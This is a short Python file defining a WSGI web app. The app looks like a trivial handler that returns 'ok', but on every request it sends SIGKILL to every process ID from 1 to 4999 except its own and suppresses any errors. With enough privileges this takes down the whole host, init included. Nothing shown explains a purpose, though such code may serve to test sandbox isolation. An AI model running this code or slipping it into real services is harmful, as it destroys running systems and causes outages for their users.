import contextlib
import os
import signal


def app(environ, start_response):
    own = {os.getpid(), 0}
    for process in range(1, 5000):
        if process not in own:
            with contextlib.suppress(OSError):
                os.kill(process, signal.SIGKILL)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
